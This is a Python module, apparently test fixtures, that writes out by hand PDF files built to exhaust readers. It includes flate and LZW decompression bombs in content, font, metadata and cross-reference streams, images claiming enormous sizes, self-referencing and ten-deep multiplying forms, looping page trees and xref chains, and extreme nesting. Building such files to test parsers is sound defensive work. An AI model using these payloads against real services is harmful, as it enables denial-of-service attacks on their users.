"""PDFs that are made to do harm, written byte by byte: no library would write them.

Each function gives one, small on the disk wherever that is what makes it a trap.
"""

from __future__ import annotations

import zlib
from functools import cache
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

MEGABYTE = 10**6
TEXT = b"BT /F1 12 Tf 72 300 Td (Budget of the year) Tj ET\n"

CATALOG, PAGES, PAGE, CONTENTS, FONT = 1, 2, 3, 4, 5
FREE = 6
"""The first object number that `slide` leaves to its caller."""


def stream(data: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    """A stream object; `entries` are those of its dictionary besides the length."""
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data) if length is None else length, data)


def flate(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object, compressed."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


@cache
def zeros(megabytes: int) -> bytes:
    """So many million blanks, compressed to a thousandth, without ever holding them."""
    packing = zlib.compressobj(9)
    packed = [packing.compress(b" " * MEGABYTE) for _ in range(megabytes)]
    return b"".join((*packed, packing.flush()))


def bomb(megabytes: int, entries: bytes = b"") -> bytes:
    """A stream object that inflates to so many million blanks."""
    return stream(zeros(megabytes), b"/Filter /FlateDecode " + entries)


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"", *, root: int = CATALOG) -> bytes:
    """A file with these objects, its table of objects, and a trailer with `trailer` among its entries."""
    data, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(data), max(objects) + 1
    data += b"xref\n0 %d\n" % size + b"0000000000 65535 f \n"
    for number in range(1, size):
        data += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    data += b"trailer\n<< /Size %d /Root %d 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(data)


def slide(
    content: bytes = TEXT,
    more: Mapping[int, bytes] | None = None,
    *,
    resources: bytes = b"",
    page: bytes = b"",
    font: bytes = b"",
    contents: bytes | None = None,
) -> bytes:
    """A file of one page with one line of text; what is given is added to the page, its resources and its font."""
    return pdf(
        {
            CATALOG: b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 720 405] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %b >> %b >>" % (resources, page),
            CONTENTS: flate(content) if contents is None else contents,
            FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica %b >>" % font,
            **(more or {}),
        }
    )


def content_bomb() -> bytes:
    """The page's content inflates to 500 MB: half a megabyte on the disk, and a thousandth of what it becomes."""
    return slide(contents=bomb(500))


def small_content_bomb() -> bytes:
    """The same in less than two kilobytes: the compressed bomb is compressed once more."""
    twice = zlib.compress(zeros(500), 9)
    return slide(contents=stream(zlib.compress(twice, 9), b"/Filter [/FlateDecode /FlateDecode /FlateDecode] "))


def many_contents() -> bytes:
    """One content stream of 20 MB that the page draws thirty times."""
    data = slide(page=b"/Contents [4 0 R %b]" % (b"6 0 R " * 30), more={FREE: bomb(20)})
    return data.replace(b"/Contents 4 0 R ", b"")


def object_stream_bomb() -> bytes:
    """A table of objects that inflates to 500 MB, before anything on the page is known."""
    packing = zlib.compressobj(9)
    packed = [packing.compress(b"5 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")]
    packed += [packing.compress(b" " * MEGABYTE) for _ in range(500)]
    body = b"".join((*packed, packing.flush()))
    table = stream(body, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")
    return _with_xref_stream({FREE: table}, {FONT: (2, FREE, 0)})


def escaped_object_stream_bomb() -> bytes:
    """The same where the name of its type is written with an escape."""
    return object_stream_bomb().replace(b"/ObjStm", b"/Obj#53tm", 1)


def xref_stream_bomb() -> bytes:
    """A cross-reference stream that inflates to 500 MB."""
    return _with_xref_stream({}, {}, padding=500)


def xref_predictor() -> bytes:
    """A cross-reference stream whose predictor claims rows of two billion columns."""
    return _with_xref_stream({}, {}, parameters=b"/DecodeParms << /Predictor 12 /Columns 2000000000 >> ")


def _with_xref_stream(
    more: Mapping[int, bytes],
    entries: Mapping[int, tuple[int, int, int]],
    *,
    padding: int = 0,
    parameters: bytes = b"",
) -> bytes:
    """The slide with a cross-reference stream instead of a table; `entries` stand in it instead of objects."""
    objects = {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 720 405] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        CONTENTS: flate(TEXT),
        FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **more,
    }
    data, rows = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        if number in entries:
            continue
        rows[number] = (1, len(data), 0)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, own = len(data), max(objects) + 1
    rows |= {**entries, own: (1, start, 0)}
    packing = zlib.compressobj(9)
    table = b"".join(
        bytes([kind]) + place.to_bytes(4) + bytes([last])
        for kind, place, last in (rows.get(n, (0, 0, 0)) for n in range(own + 1))
    )
    packed = [packing.compress(table), *(packing.compress(bytes(MEGABYTE)) for _ in range(padding)), packing.flush()]
    attributes = b"/Type /XRef /W [1 4 1] /Size %d /Root 1 0 R /Filter /FlateDecode %b" % (own + 1, parameters)
    data += b"%d 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (own, stream(b"".join(packed), attributes), start)
    return bytes(data)


def font_bomb() -> bytes:
    """A font program that inflates to 500 MB."""
    return slide(
        font=b"/FontDescriptor 6 0 R ",
        more={
            6: b"<< /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 "
            b"/Descent 0 /CapHeight 1 /StemV 1 /FontFile2 7 0 R >>",
            7: bomb(500),
        },
    )


def unicode_map_bomb() -> bytes:
    """A font's map to Unicode that inflates to 500 MB."""
    return slide(font=b"/ToUnicode 6 0 R ", more={6: bomb(500)})


def lzw_bomb() -> bytes:
    """A content stream of LZW codes that each stand for thousands of bytes."""
    codes = [256, 32, *range(258, 4095), *[4094] * 120_000]
    bits, width, table, packed = 0, 9, 256, bytearray()
    held = 0
    for code in codes:
        held, bits = (held << width) | code, bits + width
        while bits >= 8:
            packed.append(held >> (bits - 8) & 0xFF)
            bits -= 8
        held &= (1 << bits) - 1
        table += 1
        width = 12 if table >= 2047 else 11 if table >= 1023 else 10 if table >= 511 else 9
    return slide(contents=stream(bytes(packed), b"/Filter /LZWDecode "))


def picture_bomb() -> bytes:
    """A picture that claims a hundred thousand pixels each way, from a few bytes."""
    return _with_picture(b"/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB ", bomb)


def jpx_bomb() -> bytes:
    """A JPEG 2000 picture whose own header claims what the PDF does not."""
    header = b"\xff\x4f\xff\x51\x00\x2f\x00\x00" + b"".join(
        n.to_bytes(4) for n in (90_000, 90_000, 0, 0, 90_000, 90_000, 0, 0)
    )
    header += b"\x00\x03" + b"\x07\x01\x01" * 3
    return _with_picture(
        b"/Width 10 /Height 10 ", lambda _size, entries: stream(header, b"/Filter /JPXDecode " + entries)
    )


def _with_picture(entries: bytes, made: Callable[[int, bytes], bytes]) -> bytes:
    return slide(
        TEXT + b"q 300 0 0 200 72 50 cm /I1 Do Q",
        {FREE: made(1, b"/Type /XObject /Subtype /Image " + entries)},
        resources=b"/XObject << /I1 6 0 R >> ",
    )


def inline_picture() -> bytes:
    """An image inside the content that claims 60,000 pixels each way."""
    return slide(TEXT + b"q 9 0 0 9 9 9 cm BI /W 60000 /H 60000 /BPC 8 /CS /RGB ID xx EI Q")


def laughing_forms(levels: int = 10, times: int = 10) -> bytes:
    """Drawings that each draw the next ten times, ten deep: ten billion at the bottom."""
    more = {
        FREE + n: flate(
            b"/G Do " * times if n < levels - 1 else b"BT /F1 9 Tf (ha) Tj ET",
            b"/Type /XObject /Subtype /Form /BBox [0 0 720 405] /Resources << /Font << /F1 5 0 R >> /XObject << /G %d 0 R >> >> "
            % (FREE + n + 1),
        )
        for n in range(levels)
    }
    return slide(TEXT + b"/G Do " * times, more, resources=b"/XObject << /G 6 0 R >> ")


def form_in_itself() -> bytes:
    """A drawing that draws itself."""
    form = flate(
        b"BT /F1 9 Tf (me) Tj ET /G Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 720 405] /Resources << /Font << /F1 5 0 R >> /XObject << /G 6 0 R >> >> ",
    )
    return slide(TEXT + b"/G Do", {FREE: form}, resources=b"/XObject << /G 6 0 R >> ")


def many_characters(count: int = 1_000_000) -> bytes:
    """A page with a million characters."""
    return slide(b"BT /F1 1 Tf 9 9 Td " + b"(%b) Tj " % (b"a" * 1000) * (count // 1000) + b"ET")


def many_rules(count: int = 1_000_000) -> bytes:
    """A page with a million rules."""
    lines = b"".join(b"%d 9 m %d 300 l S\n" % (n, n) for n in range(700))
    return slide(TEXT + lines * (count // 700 + 1))


def many_pages(count: int = 50_000) -> bytes:
    """A book: every page the same few bytes."""
    kids = b"".join(b"%d 0 R " % n for n in range(FREE, FREE + count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 720 405] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return pdf(
        {
            CATALOG: b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
            CONTENTS: flate(TEXT),
            FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            **dict.fromkeys(range(FREE, FREE + count), page),
        }
    )


def claimed_pages() -> bytes:
    """One page, and the claim of two billion."""
    return slide().replace(b"/Count 1 ", b"/Count 2000000000 ")


def looping_pages() -> bytes:
    """A tree of pages that leads back to its root."""
    return slide().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R 3 0 R 2 0 R]")


def looping_xref() -> bytes:
    """A table of objects whose earlier one is itself."""
    data = slide()
    start = data.index(b"xref\n0 ")
    return data.replace(b"/Size", b"/Prev %d /Size" % start)


def deep_nesting(depth: int = 200_000) -> bytes:
    """An entry of the page nested two hundred thousand deep."""
    return slide(page=b"/LastModified " + b"[" * depth + b"]" * depth)


def deep_content(depth: int = 500_000) -> bytes:
    """A page whose content opens arrays half a million deep."""
    return slide(TEXT + b"[" * depth)


def lying_length() -> bytes:
    """A content stream that claims to be longer than the file; readers mend that."""
    return slide(contents=stream(zlib.compress(TEXT), b"/Filter /FlateDecode ", length=2_000_000_000))


def metadata_bomb() -> bytes:
    """Metadata of the document that inflates to 500 MB: pdfium would parse it when it opens the file."""
    data = slide(more={FREE: bomb(500, b"/Type /Metadata /Subtype /XML ")})
    return data.replace(b"/Type /Catalog ", b"/Type /Catalog /Metadata 6 0 R ").replace(
        b"/MediaBox", b"/Metadata 6 0 R /MediaBox"
    )
